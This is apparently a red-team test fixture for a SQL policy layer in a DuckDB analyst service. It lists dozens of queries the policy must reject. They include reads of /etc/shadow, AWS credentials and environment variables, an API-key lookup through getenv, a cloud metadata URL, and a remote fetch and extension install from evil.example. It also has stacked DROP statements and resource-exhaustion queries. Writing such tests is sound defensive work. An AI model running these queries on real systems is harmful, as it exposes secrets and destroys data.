-- Red-team SQL through AnalystService.SubmitRun on the ecommerce dataset (orders, order_items,
-- inventory): statements the SQL policy (layer 2) must refuse before any sandbox starts.
-- Format: see tests/security/harness.py.

-- case: read_etc_passwd
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM read_csv('/etc/passwd')

-- case: read_text_passwd
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT content FROM read_text('/etc/passwd')

-- case: read_blob_shadow
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM read_blob('/etc/shadow')

-- case: read_proc_environ
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM read_text('/proc/self/environ')

-- case: read_json_auto_file
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM read_json_auto('/root/.aws/credentials')

-- case: read_parquet_url
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM read_parquet('https://evil.example/x.parquet')

-- case: glob_root
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM glob('/*')

-- case: sniff_csv_passwd
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM sniff_csv('/etc/passwd')

-- case: parquet_metadata
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM parquet_metadata('/etc/passwd')

-- case: query_table_function
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')

-- case: query_table_by_name
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM query_table('orders')

-- case: range_table_function_huge
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT count(*) FROM range(1000000000000)

-- case: generate_series_table_function
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT count(*) FROM generate_series(1, 100000000000)

-- case: generate_series_scalar_unnest
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: function|table_function
SELECT count(*) FROM (SELECT unnest(generate_series(1, 10000000000)) AS n)

-- case: range_in_cte
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
WITH r AS (SELECT * FROM range(100000000000)) SELECT count(*) FROM r

-- case: file_path_as_table
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table
SELECT * FROM '/etc/passwd'

-- case: relative_path_as_table
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table
SELECT * FROM '../../../../etc/passwd'

-- case: url_as_table
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table
SELECT * FROM 'http://169.254.169.254/latest/meta-data/'

-- case: table_function_in_join
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT o.order_id, p.content FROM orders o JOIN read_text('/etc/hostname') p ON true LIMIT 5

-- case: table_function_in_scalar_subquery
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT order_id, (SELECT content FROM read_text('/etc/passwd')) AS leak FROM orders LIMIT 1

-- case: table_function_lateral
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function|function
SELECT * FROM orders, LATERAL read_csv('/etc/passwd') LIMIT 1

-- case: table_function_from_first
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
FROM read_csv('/etc/passwd')

-- case: cte_named_like_file
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table
WITH x AS (SELECT 1 AS a) SELECT * FROM (SELECT * FROM x) y, "/etc/passwd"

-- case: unknown_table
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table
SELECT * FROM customers

-- case: other_dataset_table
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table
SELECT count(*) FROM tickets

-- case: information_schema
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table
SELECT * FROM information_schema.tables

-- case: duckdb_settings_table
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM duckdb_settings()

-- case: duckdb_extensions_table
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM duckdb_extensions()

-- case: duckdb_secrets_table
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function
SELECT * FROM duckdb_secrets()

-- case: catalog_qualified
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table
SELECT count(*) FROM memory.main.orders

-- case: system_catalog
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table
SELECT * FROM system.main.duckdb_settings

-- case: getenv
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: function
SELECT getenv('ANTHROPIC_API_KEY') AS k

-- case: getenv_hidden_in_where
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: function
SELECT count(*) FROM orders WHERE status = getenv('HOME')

-- case: current_setting
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: function
SELECT current_setting('allowed_directories') AS d

-- case: sleep_ms
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: function
SELECT sleep_ms(60000)

-- case: write_log
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: function
SELECT write_log('pwned') FROM orders LIMIT 1

-- case: read_blob_scalar_style
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: table_function|function
SELECT (SELECT content FROM read_blob('/etc/passwd'))

-- case: random_function
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: function
SELECT order_id FROM orders ORDER BY random() LIMIT 3

-- case: lambda_with_getenv
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: function
SELECT list_transform([1, 2], x -> getenv('PATH')) AS l

-- case: columns_star_expression
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: function
SELECT COLUMNS('.*') FROM orders LIMIT 1

-- case: two_statements
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_count
SELECT 1 FROM orders LIMIT 1; SELECT * FROM read_text('/etc/passwd')

-- case: stacked_drop
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_count
SELECT count(*) FROM orders; DROP TABLE orders

-- case: comment_then_statement
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_count
SELECT count(*) FROM orders /* ok */; /* and */ COPY orders TO '/tmp/out.csv'

-- case: delete
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
DELETE FROM orders

-- case: update
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
UPDATE orders SET total = 0

-- case: insert
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
INSERT INTO orders SELECT * FROM orders

-- case: create_table_as
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
CREATE TABLE stolen AS SELECT * FROM orders

-- case: create_temp_macro
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
CREATE TEMP MACRO leak() AS TABLE SELECT * FROM read_text('/etc/passwd')

-- case: drop_table
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
DROP TABLE orders

-- case: merge_into
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type|unparsable
MERGE INTO orders USING orders AS s ON orders.order_id = s.order_id WHEN MATCHED THEN DELETE

-- case: copy_to_dataset_file
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
COPY orders TO '/data/t0.csv'

-- case: copy_from_file
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
COPY orders FROM '/etc/passwd'

-- case: export_database
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: unparsable|statement_type
EXPORT DATABASE '/tmp/dump'

-- case: attach_file
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
ATTACH '/tmp/evil.duckdb' AS evil

-- case: attach_memory
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
ATTACH ':memory:' AS scratch

-- case: install_httpfs
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
INSTALL httpfs

-- case: load_extension
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
LOAD httpfs

-- case: force_install_from_url
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type|unparsable
FORCE INSTALL shellfs FROM 'http://evil.example'

-- case: update_extensions
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
UPDATE EXTENSIONS

-- case: set_external_access
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
SET enable_external_access = true

-- case: set_memory_limit
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
SET memory_limit = '64GB'

-- case: set_variable
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
SET VARIABLE target = '/etc/passwd'

-- case: reset_setting
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
RESET threads

-- case: pragma
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
PRAGMA database_list

-- case: checkpoint
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
CHECKPOINT

-- case: use_schema
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
USE memory

-- case: call_procedure
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
CALL duckdb_secrets()

-- case: begin_transaction
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
BEGIN TRANSACTION

-- case: select_into
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
SELECT * INTO stolen FROM orders

-- case: prepared_parameter
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
SELECT * FROM orders WHERE order_id = ? LIMIT 5

-- case: summarize
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type|table_function|unparsable
SUMMARIZE orders

-- case: describe
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: statement_type
DESCRIBE orders

-- case: garbage
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: unparsable|statement_type
SELEKT * FRUM orders

-- case: deep_parentheses
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: unparsable|too_deep
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((order_id)))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))) FROM orders LIMIT 1

-- case: deep_subqueries
-- expect: reject
-- layer: policy
-- code: SQL_POLICY_VIOLATION
-- rule: unparsable|too_deep
SELECT count(*) FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM orders))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))
